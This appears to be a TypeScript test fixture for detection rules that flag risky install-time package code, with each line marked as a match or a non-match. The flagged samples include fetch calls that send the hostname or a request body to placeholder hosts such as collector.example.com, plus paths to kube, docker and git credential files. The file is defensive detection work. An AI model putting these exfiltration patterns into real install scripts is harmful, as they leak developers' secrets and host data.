// Tests for install-time.yaml in TypeScript (install-time code).
import * as os from 'os';
// ruleid: pkg.install-time.network
import * as https from 'https';
// ruleid: pkg.install-time.network
import got from 'got';
// ruleid: pkg.install-time.network
import { request } from 'node:http2';
// ok: pkg.install-time.network
import { httpStatus } from './http-status';
// ok: pkg.install-time.network
import type { Agent } from './agent';
// ok: pkg.install-time.network
import * as net2 from './net';

// ruleid: pkg.install-time.dns
import { lookup } from 'dns';
// ruleid: pkg.install-time.dns
import * as dnsp from 'node:dns/promises';
// ruleid: pkg.install-time.dns
import dns from 'dns';
// ok: pkg.install-time.dns
import { encode } from 'dns-packet';
// ok: pkg.install-time.dns
import { resolve } from 'path';
// ok: pkg.install-time.dns
import * as dnsUtil from './dns-util';

// ruleid: pkg.install-time.child-process
import { execSync } from 'child_process';
// ruleid: pkg.install-time.child-process
import * as cp from 'node:child_process';
// ruleid: pkg.install-time.child-process
import cpx from 'child_process';
// ok: pkg.install-time.child-process
import { Worker } from 'worker_threads';
// ok: pkg.install-time.child-process
import * as proc from './process';
// ok: pkg.install-time.child-process
import { spawnSync } from './spawn';

export async function run(body: string): Promise<void> {
  // ruleid: pkg.install-time.fetch
  const res: Response = await fetch(`https://x.example.com/?h=${os.hostname()}`);
  // ruleid: pkg.install-time.fetch
  await fetch('https://collector.example.com', { method: 'POST', body });
  // ruleid: pkg.install-time.fetch
  const s = new WebSocket('wss://ws.example.com');
  // ok: pkg.install-time.fetch
  const r = await fetchLocal(body);
  // ok: pkg.install-time.fetch
  const m = new Map<string, number>();
  // ok: pkg.install-time.fetch
  void [res, s, r, m, lookup, dnsp, dns, execSync, cp, cpx, https, got, request];
}

// ruleid: pkg.install-time.credentials
const kube: string = `${os.homedir()}/.kube/config`;
// ruleid: pkg.install-time.credentials
const docker = os.homedir() + '/.docker/config.json';
// ruleid: pkg.install-time.credentials
const gitCreds: string = '~/.git-credentials';
// ok: pkg.install-time.credentials
const tsconfig: string = './tsconfig.json';
// ok: pkg.install-time.credentials
const sshLike = 'sshd_config';
// ok: pkg.install-time.credentials
const npmrcDoc = 'see the npm docs';
